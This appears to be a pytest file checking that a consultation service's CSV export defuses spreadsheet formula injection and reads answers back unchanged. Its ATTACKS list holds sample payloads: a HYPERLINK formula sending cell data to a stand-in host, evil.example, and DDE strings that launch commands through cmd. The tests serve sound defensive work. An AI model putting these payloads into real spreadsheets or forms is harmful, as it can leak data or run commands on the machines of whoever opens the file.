"""The CSV export never hands a spreadsheet a formula typed by the public (OWASP CSV injection).

On the code before it, an answer ``=HYPERLINK("http://evil.example","Click")`` was written
unchanged and became a live link in the officer's spreadsheet.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from services.consultation.adapters.catalogue import load_consultations
from services.consultation.domain.tabular import export_csv, neutralise, read_import

SLUG = "draft-leicestershire-carers-strategy-2026"
ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click for details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("typed", ATTACKS)
def test_a_formula_answer_is_exported_as_text_and_reads_back_as_typed(typed: str) -> None:
    consultation = load_consultations()[SLUG]
    comments = consultation.question("h")
    assert comments is not None
    responses = [
        {
            "response_id": "r1",
            "submitted_at": datetime(2026, 5, 1, tzinfo=UTC),
            "channel": "online",
            "paper_reference": "=1+2",
            "answers": {"h": typed},
        }
    ]
    text = export_csv(consultation, responses)
    [row] = list(csv.DictReader(io.StringIO(text)))
    cell = row[comments.text]
    assert cell == "'" + typed
    assert row["Paper reference"] == "'=1+2"
    [back] = read_import(consultation, text)
    assert back.raw["answers"]["h"] == typed.strip()


def test_ordinary_answers_are_left_alone() -> None:
    for text in ("Very well", "a = b", "", "'quoted already", "1-2"):
        assert neutralise(text) == text
